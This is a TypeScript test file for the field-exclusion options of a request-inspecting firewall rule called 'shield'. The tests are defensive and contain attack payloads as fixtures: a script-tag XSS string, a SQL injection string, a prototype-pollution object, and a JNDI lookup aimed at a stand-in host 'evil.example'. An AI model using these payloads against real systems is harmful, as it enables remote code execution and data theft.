// biome-ignore-all lint/suspicious/noTemplateCurlyInString: "${jndi:…}" is a literal lookup payload, not a template.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type Decision, parapet, silentLogger } from "@parapet/core";
import { type ShieldOptions, type ShieldReason, shield } from "../src/index.js";

const MARKUP = '<p>Hi <a href="https://example.com">there</a></p><script>alert(1)</script>';
const SQL = "1' OR '1'='1";

function protectJson(options: Omit<ShieldOptions, "mode">, body: unknown, url = "/posts"): Promise<Decision> {
  const client = parapet({ rules: [shield({ mode: "LIVE", ...options })], logger: silentLogger });
  return client.protect({
    method: "POST",
    url,
    ip: "203.0.113.7",
    headers: { host: "app.test", "content-type": "application/json" },
    body: JSON.stringify(body),
  });
}

function reasonOf(decision: Decision): ShieldReason {
  assert.equal(decision.conclusion, "DENY");
  return decision.reason as ShieldReason;
}

describe("shield exclusions", () => {
  it("lets an excluded field hold what would be an attack, and still guards every other place", async () => {
    assert.equal(reasonOf(await protectJson({}, { content: MARKUP })).location, "body.content");
    assert.equal((await protectJson({ exclude: ["body.content"] }, { content: MARKUP })).conclusion, "ALLOW");
    const other = reasonOf(await protectJson({ exclude: ["body.content"] }, { content: MARKUP, title: SQL }));
    assert.equal(other.location, "body.title");
    assert.equal(other.class, "sqli");
    assert.ok(other.findings.every((f) => f.location !== "body.content"));
    const query = reasonOf(await protectJson({ exclude: ["body.content"] }, { content: "ok" }, `/posts?q=${encodeURIComponent(SQL)}`));
    assert.equal(query.location, "query.q");
  });

  it("excludes only the classes it names", async () => {
    const options = { exclude: [{ location: "body.content", classes: ["xss" as const] }] };
    assert.equal((await protectJson(options, { content: MARKUP })).conclusion, "ALLOW");
    assert.equal(reasonOf(await protectJson(options, { content: SQL })).class, "sqli");
  });

  it("matches one segment with * and a whole subtree with a final **", async () => {
    const posts = { posts: [{ html: MARKUP }, { html: MARKUP, title: SQL }] };
    assert.equal(reasonOf(await protectJson({ exclude: ["body.posts.*.html"] }, posts)).location, "body.posts.1.title");
    assert.equal((await protectJson({ exclude: ["body.posts.**"] }, posts)).conclusion, "ALLOW");
    // `*` is exactly one segment: deeper places are not covered.
    const nested = { posts: [{ html: { inner: MARKUP } }] };
    assert.equal(reasonOf(await protectJson({ exclude: ["body.posts.*.html"] }, nested)).location, "body.posts.0.html.inner");
  });

  it("keeps guarding polluting keys under an excluded field unless the class is named", async () => {
    const polluting = JSON.parse('{"content":{"__proto__":{"isAdmin":true}}}');
    assert.equal(reasonOf(await protectJson({ exclude: ["body.content.**"] }, polluting)).class, "proto-pollution");
    const named = { exclude: [{ location: "body.content.**", classes: ["proto-pollution" as const] }] };
    assert.equal((await protectJson(named, polluting)).conclusion, "ALLOW");
  });

  it("matches header names whatever their case", async () => {
    const client = parapet({ rules: [shield({ mode: "LIVE", exclude: ["header.X-Snippet"] })], logger: silentLogger });
    const request = {
      method: "GET",
      url: "/",
      ip: "203.0.113.7",
      headers: { host: "app.test", "x-snippet": "${jndi:ldap://evil.example/a}" },
    };
    assert.equal((await client.protect(request)).conclusion, "ALLOW");
    const guarded = parapet({ rules: [shield({ mode: "LIVE" })], logger: silentLogger });
    assert.equal((await guarded.protect(request)).conclusion, "DENY");
  });

  it("rejects malformed exclusions with a message that says what to write", () => {
    const cases: [unknown, RegExp][] = [
      ["body.content", /array/],
      [[""], /must start with path, query, body, header or cookie/],
      [["params.id"], /must start with path, query, body, header or cookie/],
      [["body..x"], /must start with/],
      [["body.**.x"], /"\*\*" may only be the last segment/],
      [[{ location: "body.x", classes: [] }], /non-empty array/],
      [[{ location: "body.x", classes: ["rce"] }], /unknown attack class "rce"/],
      [[42], /location string or \{ location, classes \}/],
    ];
    for (const [exclude, message] of cases) {
      assert.throws(() => shield({ mode: "LIVE", exclude } as unknown as ShieldOptions), message, String(exclude));
    }
  });
});
